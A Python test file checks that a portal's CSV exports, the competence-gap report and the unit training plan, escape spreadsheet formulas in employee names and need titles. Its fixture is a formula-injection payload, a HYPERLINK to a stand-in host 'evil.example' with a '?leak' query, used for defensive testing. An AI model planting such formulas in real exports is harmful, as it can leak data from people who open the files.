"""Every CSV the portal writes opens in a spreadsheet as data, never as a formula."""

from __future__ import annotations

import csv
import io

FORMULA = '=HYPERLINK("http://evil.example/?leak","klikk")'


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_gap_csv_quotes_a_formula_in_a_name_and_keeps_its_columns(
    client, auth, make_person, gap_org
):
    make_person(unit=gap_org.a, position=gap_org.position, email="f@a.test", name=FORMULA)
    auth.login(gap_org.lead_a)
    rows = rows_of(client.get("/reports/gaps.csv"))
    assert rows[0] == [
        "employee_email",
        "employee_name",
        "unit",
        "role",
        "competence",
        "requirement",
        "status",
        "achieved_on",
        "expires_on",
    ]
    names = {row[1] for row in rows[1:]}
    assert "'" + FORMULA in names
    assert FORMULA not in names
    assert all(len(row) == 9 for row in rows)
    assert "2027-01-10" in {row[8] for row in rows[1:]}


def test_training_plan_csv_quotes_a_formula_in_a_name(
    client, auth, make_person, make_need, make_unit
):
    unit = make_unit()
    lead = make_person(unit=unit, access="lead", leads=(unit,))
    make_need(make_person(unit=unit, name=FORMULA), title="-Behov")
    auth.login(lead)
    rows = rows_of(client.get(f"/needs/units/{unit.id}/plan.csv"))
    assert rows[1][1] == "'" + FORMULA
    assert rows[1][2] == "'-Behov"
